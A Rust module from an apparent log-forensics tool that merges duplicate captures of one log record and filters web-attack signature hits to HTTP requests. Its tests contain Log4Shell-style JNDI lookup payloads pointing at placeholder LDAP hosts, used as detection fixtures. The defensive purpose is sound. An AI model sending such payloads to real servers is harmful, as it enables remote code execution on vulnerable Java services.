//! One log record, however many captures hold it. The same line reaches a bundle through
//! the json-file log, a `docker logs -t` capture and the application's own log file in the
//! export; each capture is a locator of one record, not another record. Matched on content
//! (the excerpt with capture prefixes removed) and time to the second, one-to-one between
//! captures; the time kept is the most precise capture's (json-file / `logs -t` / CRI).

use std::collections::BTreeMap;

use serde::Serialize;

use crate::logscan::LogHit;
use crate::model::{Locator, Severity, TimelineEvent, Timestamp};

/// Seconds two captures of one record may differ by (a file log's time is printed to the
/// millisecond or second, the runtime's to the nanosecond).
const SAME_RECORD_SECS: i64 = 1;

/// One log record with every capture of it.
#[derive(Clone, Debug, Serialize)]
pub struct LogRecord {
    /// Position in `log_records`.
    pub id: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub time: Option<Timestamp>,
    /// Every capture of the record; the first is the one whose time is kept.
    pub locators: Vec<Locator>,
    /// Rules that matched it (sorted).
    pub rules: Vec<String>,
    pub severity: Severity,
    /// The record around the first match (escaped on output).
    pub excerpt: String,
    /// Indexes into `log_hits` (every rule, every capture).
    pub hits: Vec<usize>,
}

/// A record's place in one capture: artifact, members, line (or offset without a line).
type LineKey = (String, Vec<String>, Option<u64>, Option<u64>);

/// One record as one capture holds it: the hits on one line of one source.
struct Observation {
    source: (String, Vec<String>),
    locator: Locator,
    time: Option<Timestamp>,
    hits: Vec<usize>,
    /// (rule, normalized excerpt) of each hit.
    keys: Vec<(String, String)>,
}

/// The records behind `hits`. `precise` tells whether a capture's times are the runtime's
/// own (json-file, `docker logs -t`, CRI), preferred over times printed by the application.
pub(crate) fn build(hits: &[LogHit], precise: &dyn Fn(&Locator) -> bool) -> Vec<LogRecord> {
    // 1. Hits on the same line of the same capture are one observation.
    let mut by_line: BTreeMap<LineKey, usize> = BTreeMap::new();
    let mut obs: Vec<Observation> = vec![];
    // Scanner traffic is grouped by the log scanner's own facts (one per scanner and address).
    for (i, h) in hits.iter().enumerate().filter(|(_, h)| {
        in_context(h) && crate::logscan::rules::engine_kind(&h.rule).role != crate::model::Role::Scanner
    }) {
        let l = &h.locator;
        // Without a line number the offset identifies the record.
        let key =
            (l.artifact.clone(), l.members.clone(), l.line, if l.line.is_some() { None } else { l.offset });
        let o = *by_line.entry(key).or_insert_with(|| {
            obs.push(Observation {
                source: (l.artifact.clone(), l.members.clone()),
                locator: l.clone(),
                time: h.time,
                hits: vec![],
                keys: vec![],
            });
            obs.len() - 1
        });
        obs[o].hits.push(i);
        obs[o].keys.push((h.rule.clone(), normalize(&h.excerpt)));
        if obs[o].time.is_none() {
            obs[o].time = h.time;
        }
    }
    // 2. Observations of one record in different captures join, one-to-one, in time order.
    let mut order: Vec<usize> = (0..obs.len()).collect();
    order.sort_by(|&a, &b| {
        (obs[a].time.is_none(), obs[a].time, &obs[a].locator).cmp(&(
            obs[b].time.is_none(),
            obs[b].time,
            &obs[b].locator,
        ))
    });
    // Clusters by the second of their first observation, so only neighbours are compared;
    // untimed observations join on identical text only.
    let mut clusters: Vec<Vec<usize>> = vec![];
    let mut by_second: BTreeMap<i64, Vec<usize>> = BTreeMap::new();
    let mut untimed: BTreeMap<&(String, String), Vec<usize>> = BTreeMap::new();
    for &o in &order {
        let near: Vec<usize> = match obs[o].time {
            Some(t) => {
                let s = t.unix_secs();
                by_second
                    .range(s.saturating_sub(SAME_RECORD_SECS)..=s.saturating_add(SAME_RECORD_SECS))
                    .flat_map(|(_, v)| v.iter().copied())
                    .collect()
            }
            None => obs[o].keys.iter().filter_map(|k| untimed.get(k)).flatten().copied().collect(),
        };
        let found = near
            .into_iter()
            .filter(|&c| {
                let c = &clusters[c];
                !c.iter().any(|&m| obs[m].source == obs[o].source)
                    && close(obs[c[0]].time, obs[o].time)
                    && c.iter().any(|&m| same_content(&obs[m], &obs[o]))
            })
            .min();
        match found {
            Some(c) => clusters[c].push(o),
            None => {
                match obs[o].time {
                    Some(t) => by_second.entry(t.unix_secs()).or_default().push(clusters.len()),
                    None => {
                        for k in &obs[o].keys {
                            untimed.entry(k).or_default().push(clusters.len());
                        }
                    }
                }
                clusters.push(vec![o]);
            }
        }
    }
    // 3. One record per cluster, the precise capture first.
    let mut out: Vec<LogRecord> = clusters
        .into_iter()
        .map(|mut c| {
            c.sort_by_key(|&m| (!precise(&obs[m].locator), obs[m].locator.clone()));
            let lead = &obs[c[0]];
            let mut rules: Vec<String> =
                c.iter().flat_map(|&m| obs[m].keys.iter().map(|k| k.0.clone())).collect();
            rules.sort();
            rules.dedup();
            let mut hit_ids: Vec<usize> = c.iter().flat_map(|&m| obs[m].hits.iter().copied()).collect();
            hit_ids.sort();
            let severity = hit_ids.iter().map(|&i| hits[i].severity).max().unwrap_or(Severity::Info);
            LogRecord {
                id: 0,
                time: lead.time,
                locators: c.iter().map(|&m| obs[m].locator.clone()).collect(),
                rules,
                severity,
                excerpt: hits[lead.hits[0]].excerpt.clone(),
                hits: hit_ids,
            }
        })
        .collect();
    out.sort_by(|a, b| (a.time.is_none(), a.time, &a.locators).cmp(&(b.time.is_none(), b.time, &b.locators)));
    for (i, r) in out.iter_mut().enumerate() {
        r.id = i;
    }
    out
}

/// One timeline event per record the story kept (every capture of it as a locator): a hit
/// the story rejected (a template line that is no request) is no event, and one request in
/// two captures is one event.
pub(crate) fn events(records: &[LogRecord], hits: &[LogHit]) -> Vec<TimelineEvent> {
    records
        .iter()
        .map(|r| {
            let rh: Vec<&LogHit> = r.hits.iter().map(|&i| &hits[i]).collect();
            let lead = rh.iter().max_by_key(|h| (h.severity, std::cmp::Reverse(h.rule.clone()))).copied();
            let what = rh
                .iter()
                .find_map(|h| {
                    h.jndi.as_ref().map(|j| j.decoded.clone()).or_else(|| h.commands.first().cloned())
                })
                .unwrap_or_else(|| r.excerpt.clone());
            let mut titles: Vec<&str> = vec![];
            for h in lead.into_iter().chain(rh.iter().copied()) {
                if !titles.contains(&h.title.as_str()) {
                    titles.push(&h.title);
                }
            }
            TimelineEvent {
                time: r.time,
                timestamp_desc: "log written".into(),
                kind: "log-hit".into(),
                message: format!("{}: {what}", titles.join("; ")),
                source: r.locators[0].clone(),
                also: r.locators[1..].to_vec(),
                order: r.locators[0].line.into_iter().collect(),
            }
        })
        .collect()
}

/// Web attack signatures (OGNL, SpEL, template injection, traversal, SQL injection...) mean
/// something in a request only: `${#variable}` in a manual or `../../config.mak` in a
/// Makefile is no attack. A hit of a `web.` rule needs its record to be a request (parsed
/// as one, or carrying a request line or an encoded query).
pub(crate) fn in_context(h: &LogHit) -> bool {
    if crate::logscan::rules::engine_kind(&h.rule).role != crate::model::Role::Request {
        return true;
    }
    if h.http.as_ref().is_some_and(|q| q.method.is_some() || q.path.is_some()) {
        return true;
    }
    let e = h.excerpt.as_str();
    ["HTTP/1.", "HTTP/2", "GET /", "POST /", "PUT /", "HEAD /", "uri=", "url=", "request=", "query="]
        .iter()
        .any(|m| e.contains(m))
        || e.as_bytes()
            .windows(3)
            .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
}

fn close(a: Option<Timestamp>, b: Option<Timestamp>) -> bool {
    match (a, b) {
        (Some(a), Some(b)) => (a.unix_secs() - b.unix_secs()).abs() <= SAME_RECORD_SECS,
        (None, None) => true,
        _ => false,
    }
}

/// Two observations carry the same text for some rule: equal, or one excerpt window
/// inside the other (a `logs -t` prefix shifts the window's end).
fn same_content(a: &Observation, b: &Observation) -> bool {
    a.keys.iter().any(|(ra, ea)| {
        b.keys.iter().any(|(rb, eb)| {
            if ra != rb {
                return false;
            }
            let (short, long) = if ea.len() <= eb.len() { (ea, eb) } else { (eb, ea) };
            short.len() >= long.len().min(40) && long.contains(short.as_str())
        })
    })
}

/// The excerpt without what a capture adds: window marks, the `docker logs -t` / CRI time
/// prefix and CRI stream/tag fields, surrounding space.
pub(crate) fn normalize(excerpt: &str) -> String {
    let mut s = excerpt.trim().trim_start_matches('…').trim_end_matches('…').trim();
    if let Some((first, rest)) = s.split_once(' ') {
        if first.len() >= 20 && Timestamp::parse_rfc3339(first).is_some() {
            s = rest.trim_start();
            for stream in ["stdout ", "stderr "] {
                if let Some(r) = s.strip_prefix(stream) {
                    s = r.strip_prefix("F ").or_else(|| r.strip_prefix("P ")).unwrap_or(r);
                }
            }
        }
    }
    s.trim().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(artifact: &str, line: u64, secs: i64, nanos: u32, rule: &str, excerpt: &str) -> LogHit {
        LogHit {
            locator: Locator::artifact(artifact).with_line(line),
            time: Some(Timestamp::from_unix(secs, nanos)),
            stream: None,
            rule: rule.into(),
            title: rule.into(),
            category: "initial-access".into(),
            severity: Severity::High,
            attack: None,
            excerpt: excerpt.into(),
            decoded: None,
            commands: vec![],
            jndi: None,
            iocs: vec![],
            refs: vec![],
            http: None,
            time_basis: None,
            credit: None,
        }
    }

    #[test]
    fn web_rules_need_a_request() {
        let mut h =
            hit("COMPAT", 1, 0, 0, "web.struts2.ognl", "use ${#variable} to get the length of a variable");
        h.time = None;
        assert!(!in_context(&h));
        h.excerpt = "GET /index.action?x=%24%7B%23a%7D HTTP/1.1".into();
        assert!(in_context(&h));
        let j = hit("app.log", 1, 0, 0, "log4j.jndi-lookup", "user ${jndi:ldap://x/a} logged in");
        assert!(in_context(&j), "JNDI in an application log is an attack anywhere");
    }

    #[test]
    fn normalizes_capture_prefixes() {
        assert_eq!(normalize("2026-11-27T14:19:42.104412337Z GET /x"), "GET /x");
        assert_eq!(normalize("2026-11-27T14:19:42.104412337Z stdout F GET /x"), "GET /x");
        assert_eq!(normalize("…abc…"), "abc");
        assert_eq!(normalize("27-Nov-2026 14:19:42.104 INFO x"), "27-Nov-2026 14:19:42.104 INFO x");
    }

    #[test]
    fn one_record_through_three_captures_and_two_rules() {
        let msg = "27-Nov-2026 14:21:07.499 INFO header=x-api-version=${jndi:ldap://203.0.113.66:1389/Basic}";
        let hits = vec![
            hit("container.log", 99, 100, 499_415_011, "jndi", msg),
            hit("container.log", 99, 100, 499_415_011, "b64", msg),
            hit("logs-t.txt", 99, 100, 499_415_011, "jndi", &format!("2026-11-27T14:21:07.499415011Z {msg}")),
            hit("export.tar", 55, 100, 499_000_000, "jndi", msg),
            // The same text a second later in the same capture is another record.
            hit("container.log", 120, 101, 0, "jndi", msg),
            // Other content, same second: another record.
            hit(
                "logs-t.txt",
                100,
                100,
                600_000_000,
                "jndi",
                "GET /other ${jndi:ldap://x/y} and more text here",
            ),
        ];
        let precise = |l: &Locator| l.artifact != "export.tar";
        let recs = build(&hits, &precise);
        assert_eq!(recs.len(), 3, "{recs:#?}");
        let first = &recs[0];
        assert_eq!(first.locators.len(), 3);
        assert_eq!(first.locators[0].artifact, "container.log");
        assert_eq!(first.time, Some(Timestamp::from_unix(100, 499_415_011)));
        assert_eq!(first.rules, vec!["b64".to_string(), "jndi".to_string()]);
        assert_eq!(first.hits, vec![0, 1, 2, 3]);
    }

    #[test]
    fn times_apart_are_different_records() {
        let msg = "GET /a?x=${jndi:ldap://198.51.100.23/a} HTTP/1.1 and so on";
        let hits = vec![hit("a.log", 1, 100, 0, "jndi", msg), hit("b.log", 1, 105, 0, "jndi", msg)];
        assert_eq!(build(&hits, &|_| true).len(), 2);
    }
}
